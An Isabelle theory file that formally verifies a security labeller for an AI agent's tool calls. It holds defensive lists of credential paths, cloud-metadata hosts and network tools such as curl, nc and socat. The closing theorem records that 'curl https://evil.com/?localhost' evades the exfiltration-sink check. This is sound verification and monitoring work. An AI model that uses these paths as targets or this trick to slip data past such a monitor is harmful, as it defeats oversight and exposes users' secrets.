(* ===== verification/Resource.thy ===== *)
theory Resource
  imports Lattice Regex
begin

text \<open>
  Trusted resource labelling, \<^verbatim>\<open>internal/resource\<close>: extraction of file paths and URLs from tool
  arguments and shell commands, the built-in path and domain rules (first match wins), the labels
  of \<^verbatim>\<open>RuleBasedLabeler\<close> and its classification of sinks.  Rules pair a matcher with a label and a
  category name; \<^verbatim>\<open>MatchRegex\<close> is the matcher the label package adds.
\<close>

section \<open>Strings of shell commands\<close>

text \<open>\<^verbatim>\<open>strings.Split\<close> at a non-empty separator; the counter skips the rest of a separator.\<close>

fun split_str :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string list" where
  "split_str sep k [] acc = [rev acc]"
| "split_str sep (Suc k) (c # s) acc = split_str sep k s acc"
| "split_str sep 0 (c # s) acc =
    (if HasPrefix (c # s) sep then rev acc # split_str sep (length sep - 1) s []
     else split_str sep 0 s (c # acc))"

definition SplitStr :: "string \<Rightarrow> string \<Rightarrow> string list" where
  "SplitStr s sep = split_str sep 0 s []"

definition baseCommand :: "string \<Rightarrow> string" where
  "baseCommand cmd = (case LastIndexByte cmd CHR ''/'' of Some i \<Rightarrow> drop (i + 1) cmd | None \<Rightarrow> cmd)"

section \<open>Extraction\<close>

definition stringArg :: "json_map \<Rightarrow> string \<Rightarrow> string" where
  "stringArg args key = (case args key of Some (JStr s) \<Rightarrow> s | _ \<Rightarrow> [])"

definition sensitiveNames :: "string list" where
  "sensitiveNames = [''.env'', ''.pem'', ''.key'', ''shadow'', ''passwd'', ''credentials'',
     ''id_rsa'', ''id_ed25519'', ''authorized_keys'', ''.secret'']"

definition looksLikePath :: "string \<Rightarrow> bool" where
  "looksLikePath s =
    (if s = [] then False
     else if hd s = CHR ''/'' \<or> hd s = CHR ''~'' \<or> hd s = CHR ''.'' then True
     else if Contains s ''/'' \<and> \<not> HasPrefix s ''http'' then True
     else list_ex (Contains s) sensitiveNames)"

definition fileReaders :: "string list" where
  "fileReaders = [''cat'', ''head'', ''tail'', ''less'', ''more'', ''tac'', ''nl'', ''wc'', ''file'', ''stat'',
     ''md5sum'', ''sha256sum'', ''sha1sum'', ''xxd'', ''strings'', ''hexdump'', ''od'']"

definition path_args :: "string list \<Rightarrow> string list" where
  "path_args ts = filter (\<lambda>t. \<not> HasPrefix t ''-'' \<and> looksLikePath t) ts"

fun redirect_targets :: "string list \<Rightarrow> string list" where
  "redirect_targets (t # u # ts) = (if t = ''<'' then [u] else []) @ redirect_targets (u # ts)"
| "redirect_targets _ = []"

definition segment_paths :: "string \<Rightarrow> string list" where
  "segment_paths part =
    (let ts = Fields (TrimSpace part) in
     if ts = [] then [] else if baseCommand (hd ts) \<in> set fileReaders then path_args (tl ts) else [])"

definition extractPathsFromCommand :: "string \<Rightarrow> string list" where
  "extractPathsFromCommand cmd =
    (let tokens = Fields cmd in
     if tokens = [] then []
     else let baseTool = baseCommand (hd tokens) in
       (if baseTool \<in> set fileReaders then path_args (tl tokens) else []) @
       (if baseTool = ''cp'' \<or> baseTool = ''scp'' \<or> baseTool = ''rsync'' then path_args (tl tokens) else []) @
       redirect_targets tokens @
       (if Contains cmd ''|'' then concat (map segment_paths (tl (SplitStr cmd ''|''))) else []))"

definition url_token :: "string \<Rightarrow> bool" where
  "url_token t \<longleftrightarrow> HasPrefix t ''http://'' \<or> HasPrefix t ''https://''"

definition extractURLsFromCommand :: "string \<Rightarrow> string list" where
  "extractURLsFromCommand cmd =
    concat (map (\<lambda>t. (if url_token t then [t] else []) @
                     (if Contains t ''169.254.169.254'' then [t] else [])) (Fields cmd))"

definition opt_arg :: "json_map \<Rightarrow> string \<Rightarrow> string list" where
  "opt_arg args key = (if stringArg args key \<noteq> [] then [stringArg args key] else [])"

definition ExtractPaths :: "string \<Rightarrow> json_map option \<Rightarrow> string list" where
  "ExtractPaths tool margs = (case margs of None \<Rightarrow> []
   | Some args \<Rightarrow>
      (if tool = ''Read'' \<or> tool = ''Write'' then opt_arg args ''file_path'' @ opt_arg args ''path''
       else if tool = ''Bash'' then
         (let cmd = stringArg args ''command'' in if cmd \<noteq> [] then extractPathsFromCommand cmd else [])
       else if tool = ''Glob'' then opt_arg args ''glob_pattern''
       else if tool = ''Grep'' then opt_arg args ''path''
       else []))"

definition ExtractDomains :: "string \<Rightarrow> json_map option \<Rightarrow> string list" where
  "ExtractDomains tool margs = (case margs of None \<Rightarrow> []
   | Some args \<Rightarrow>
      (if tool = ''WebFetch'' then opt_arg args ''url''
       else if tool = ''WebSearch'' then opt_arg args ''search_term''
       else if tool = ''Bash'' then
         (let cmd = stringArg args ''command'' in if cmd \<noteq> [] then extractURLsFromCommand cmd else [])
       else []))"

section \<open>Rules\<close>

datatype matcher =
    MatchExact string
  | MatchPrefix string
  | MatchSuffix string
  | MatchContains string
  | MatchRegex re

fun rule_matches :: "matcher \<Rightarrow> string \<Rightarrow> bool" where
  "rule_matches (MatchExact p) s = (s = p)"
| "rule_matches (MatchPrefix p) s = HasPrefix s p"
| "rule_matches (MatchSuffix p) s = HasSuffix s p"
| "rule_matches (MatchContains p) s = Contains s p"
| "rule_matches (MatchRegex r) s = MatchString r s"

type_synonym rule = "matcher \<times> SecurityLabel \<times> string"

definition lbl :: "u16 \<Rightarrow> u16 \<Rightarrow> u32 \<Rightarrow> SecurityLabel" where
  "lbl conf integ cat = \<lparr>Confidentiality = conf, Integrity = integ, Category = cat\<rparr>"

definition highCredentialLabel :: SecurityLabel where
  "highCredentialLabel = lbl 1000 500 CatCredentials"

definition highSecurityKeyLabel :: SecurityLabel where
  "highSecurityKeyLabel = lbl 1000 500 (CatCredentials OR CatSecurityKey)"

definition mediumCredentialLabel :: SecurityLabel where
  "mediumCredentialLabel = lbl 800 400 CatCredentials"

definition internalLabel :: SecurityLabel where
  "internalLabel = lbl 300 300 CatInternal"

definition defaultPathRules :: "rule list" where
  "defaultPathRules = [
    (MatchExact ''/etc/shadow'', highCredentialLabel, ''system-credentials''),
    (MatchExact ''/etc/passwd'', highCredentialLabel, ''system-credentials''),
    (MatchExact ''/etc/sudoers'', highCredentialLabel, ''system-credentials''),
    (MatchExact ''/etc/master.passwd'', highCredentialLabel, ''system-credentials''),
    (MatchContains ''/.ssh/'', highSecurityKeyLabel, ''ssh-keys''),
    (MatchContains ''id_rsa'', highSecurityKeyLabel, ''ssh-keys''),
    (MatchContains ''id_ed25519'', highSecurityKeyLabel, ''ssh-keys''),
    (MatchContains ''id_ecdsa'', highSecurityKeyLabel, ''ssh-keys''),
    (MatchContains ''authorized_keys'', highSecurityKeyLabel, ''ssh-keys''),
    (MatchContains ''/.aws/credentials'', highSecurityKeyLabel, ''cloud-credentials''),
    (MatchContains ''/.aws/config'', mediumCredentialLabel, ''cloud-config''),
    (MatchContains ''/.gcloud/'', highSecurityKeyLabel, ''cloud-credentials''),
    (MatchContains ''/.azure/'', highSecurityKeyLabel, ''cloud-credentials''),
    (MatchContains ''/.config/gcloud/'', highSecurityKeyLabel, ''cloud-credentials''),
    (MatchContains ''/.kube/config'', highSecurityKeyLabel, ''k8s-credentials''),
    (MatchPrefix ''/var/run/secrets/'', highSecurityKeyLabel, ''k8s-secrets''),
    (MatchSuffix ''.pem'', highSecurityKeyLabel, ''key-material''),
    (MatchSuffix ''.key'', highSecurityKeyLabel, ''key-material''),
    (MatchSuffix ''.p12'', highSecurityKeyLabel, ''key-material''),
    (MatchSuffix ''.pfx'', highSecurityKeyLabel, ''key-material''),
    (MatchSuffix ''.jks'', highSecurityKeyLabel, ''key-material''),
    (MatchPrefix ''/etc/ssl/private/'', highSecurityKeyLabel, ''key-material''),
    (MatchPrefix ''/etc/pki/'', highSecurityKeyLabel, ''key-material''),
    (MatchSuffix ''.env'', mediumCredentialLabel, ''env-files''),
    (MatchContains ''.env.'', mediumCredentialLabel, ''env-files''),
    (MatchSuffix ''.secret'', mediumCredentialLabel, ''secret-files''),
    (MatchContains ''credentials.json'', highSecurityKeyLabel, ''credential-files''),
    (MatchContains ''service-account'', highSecurityKeyLabel, ''credential-files''),
    (MatchSuffix ''.npmrc'', mediumCredentialLabel, ''auth-tokens''),
    (MatchSuffix ''.pypirc'', mediumCredentialLabel, ''auth-tokens''),
    (MatchSuffix ''.netrc'', mediumCredentialLabel, ''auth-tokens''),
    (MatchContains ''.docker/config.json'', mediumCredentialLabel, ''auth-tokens''),
    (MatchContains ''/.git-credentials'', mediumCredentialLabel, ''auth-tokens''),
    (MatchSuffix ''.bash_history'', internalLabel, ''history''),
    (MatchSuffix ''.zsh_history'', internalLabel, ''history''),
    (MatchPrefix ''/var/lib/mysql/'', internalLabel, ''database''),
    (MatchPrefix ''/var/lib/postgresql/'', internalLabel, ''database'')]"

definition defaultDomainRules :: "rule list" where
  "defaultDomainRules = [
    (MatchContains ''169.254.169.254'', highSecurityKeyLabel, ''cloud-metadata''),
    (MatchContains ''metadata.google.internal'', highSecurityKeyLabel, ''cloud-metadata''),
    (MatchContains ''metadata.azure.com'', highSecurityKeyLabel, ''cloud-metadata''),
    (MatchContains ''localhost'', internalLabel, ''localhost''),
    (MatchContains ''127.0.0.1'', internalLabel, ''localhost''),
    (MatchContains ''0.0.0.0'', internalLabel, ''localhost''),
    (MatchSuffix ''.internal'', internalLabel, ''internal-domain''),
    (MatchSuffix ''.local'', internalLabel, ''internal-domain'')]"

definition defaultToolSinks :: "string list" where
  "defaultToolSinks = [''WebFetch'', ''WebSearch'', ''SendMessage'']"

section \<open>The labeler\<close>

text \<open>\<^verbatim>\<open>labelPath\<close> and \<^verbatim>\<open>labelDomain\<close>: the label of the first rule that matches, or zero.\<close>

fun first_label :: "rule list \<Rightarrow> string \<Rightarrow> SecurityLabel" where
  "first_label [] s = zeroLabel"
| "first_label ((mt, l, _) # rs) s = (if rule_matches mt s then l else first_label rs s)"

definition labelPath :: "string \<Rightarrow> SecurityLabel" where
  "labelPath = first_label defaultPathRules"

definition labelDomain :: "string \<Rightarrow> SecurityLabel" where
  "labelDomain = first_label defaultDomainRules"

definition elevateMax :: "SecurityLabel \<Rightarrow> SecurityLabel \<Rightarrow> SecurityLabel" where
  "elevateMax a b =
    (let c = (if Confidentiality b > Confidentiality a then Confidentiality b else Confidentiality a);
         i = (if Integrity b > Integrity a then Integrity b else Integrity a)
     in \<lparr>Confidentiality = c, Integrity = i, Category = Category a OR Category b\<rparr>)"

definition resource_Label :: "string \<Rightarrow> json_map option \<Rightarrow> SecurityLabel" where
  "resource_Label tool args =
    foldl (\<lambda>r d. elevateMax r (labelDomain d))
      (foldl (\<lambda>r p. elevateMax r (labelPath p)) zeroLabel (ExtractPaths tool args))
      (ExtractDomains tool args)"

definition IsSecretCategory :: "SecurityLabel \<Rightarrow> bool" where
  "IsSecretCategory l \<longleftrightarrow> Category l AND (CatCredentials OR CatSecurityKey) \<noteq> 0"

section \<open>Sinks\<close>

definition internalPatterns :: "string list" where
  "internalPatterns = [''localhost'', ''127.0.0.1'', ''0.0.0.0'', ''.internal'', ''.local'', ''::1'']"

definition isInternalURL :: "string \<Rightarrow> bool" where
  "isInternalURL url = list_ex (Contains (ToLower url)) internalPatterns"

definition hasOnlyInternalURLs :: "string list \<Rightarrow> bool" where
  "hasOnlyInternalURLs args =
    (list_ex url_token args \<and> list_all (\<lambda>t. url_token t \<longrightarrow> isInternalURL t) args)"

definition splitPipeline :: "string \<Rightarrow> string list" where
  "splitPipeline cmd =
    (let segments = foldl (\<lambda>segs sep. if segs = [] then SplitStr cmd sep
                                       else concat (map (\<lambda>s. SplitStr s sep) segs))
                      [] [''&&'', ''||'', ''|'', '';'']
     in if segments = [] then [cmd] else filter (\<lambda>s. s \<noteq> []) (map TrimSpace segments))"

definition sinkNetworkTools :: "string list" where
  "sinkNetworkTools = [''curl'', ''wget'', ''nc'', ''ncat'', ''netcat'', ''ssh'', ''scp'', ''sftp'', ''rsync'',
     ''ftp'', ''telnet'', ''nmap'', ''socat'', ''openssl'']"

definition sinkInterpreters :: "string list" where
  "sinkInterpreters = [''python'', ''python3'', ''python2'', ''ruby'', ''perl'', ''node'']"

definition segment_is_sink :: "string \<Rightarrow> bool" where
  "segment_is_sink seg = (let ts = Fields seg in
     ts \<noteq> [] \<and> baseCommand (hd ts) \<in> set sinkNetworkTools \<and> \<not> hasOnlyInternalURLs (tl ts))"

definition commandIsSink :: "string \<Rightarrow> bool" where
  "commandIsSink cmd =
    (let tokens = Fields cmd in
     if tokens = [] then False
     else if list_ex segment_is_sink (splitPipeline cmd) then True
     else if baseCommand (hd tokens) \<in> set sinkInterpreters \<and>
             list_ex (Contains cmd) [''socket'', ''http'', ''urllib'', ''requests'', ''connect''] then True
     else if list_ex (\<lambda>t. url_token t \<and> \<not> isInternalURL t) tokens then True
     else list_ex (Contains cmd) [''--data'', ''--upload'', ''-d '', ''-F ''])"

definition isBashSink :: "json_map option \<Rightarrow> bool" where
  "isBashSink margs = (case margs of None \<Rightarrow> False
   | Some args \<Rightarrow> (case args ''command'' of Some (JStr cmd) \<Rightarrow> commandIsSink cmd | _ \<Rightarrow> False))"

definition IsSink :: "string \<Rightarrow> json_map option \<Rightarrow> bool" where
  "IsSink tool args =
    (if tool \<in> set defaultToolSinks then True
     else if tool = ''Bash'' then isBashSink args
     else length tool > 5 \<and> HasPrefix tool ''mcp__'')"

section \<open>Lemmas\<close>

lemma elevateMax_elevateLabel: "elevateMax = elevateLabel"
  by (intro ext) (simp add: elevateMax_def elevateLabel_def)

lemma resource_Label_fold:
  "resource_Label tool args = foldl elevateLabel zeroLabel
     (map labelPath (ExtractPaths tool args) @ map labelDomain (ExtractDomains tool args))"
  by (simp add: resource_Label_def elevateMax_elevateLabel foldl_map)

lemma first_label_rule:
  assumes "first_label rs s \<noteq> zeroLabel"
  shows "\<exists>(mt, l, c) \<in> set rs. rule_matches mt s \<and> first_label rs s = l"
  using assms by (induction rs s rule: first_label.induct) (auto split: if_splits)

section \<open>Properties\<close>

text \<open>The label of a tool call is the least label that dominates the label of every path
  and every URL extracted from its arguments: no resource a call names is left out of its label,
  and nothing else raises it.\<close>

theorem resource_Label_high_water:
  "Dominates l (resource_Label tool args) \<longleftrightarrow>
     (\<forall>p \<in> set (ExtractPaths tool args). Dominates l (labelPath p)) \<and>
     (\<forall>d \<in> set (ExtractDomains tool args). Dominates l (labelDomain d))"
proof -
  let ?ls = "map labelPath (ExtractPaths tool args) @ map labelDomain (ExtractDomains tool args)"
  have "Dominates l (foldl elevateLabel zeroLabel ?ls) \<longleftrightarrow> (\<forall>x \<in> set ?ls. Dominates l x)"
    using hwm.history_upper [of zeroLabel ?ls] hwm.history_least [of l zeroLabel ?ls] hwm.dom_bot
    by (blast intro: hwm.dom_trans)
  then show ?thesis by (auto simp: resource_Label_fold)
qed

theorem resource_Label_high_water_witness:
  "Dominates highCredentialLabel (resource_Label ''Read'' (Some [''file_path'' \<mapsto> JStr ''/etc/shadow'']))"
  unfolding resource_Label_high_water
  by (simp add: ExtractPaths_def ExtractDomains_def opt_arg_def stringArg_def labelPath_def
      defaultPathRules_def hwm.dom_refl)

text \<open>A URL counts as internal as soon as an internal name occurs anywhere in it: a command
  that posts to an external host with \<^verbatim>\<open>localhost\<close> in the query is not classified as a sink.\<close>

theorem internal_name_in_query_hides_sink:
  "\<not> commandIsSink ''curl https://evil.com/?localhost'' \<and> commandIsSink ''curl https://evil.com/?x''"
  by (intro conjI) code_simp+

end
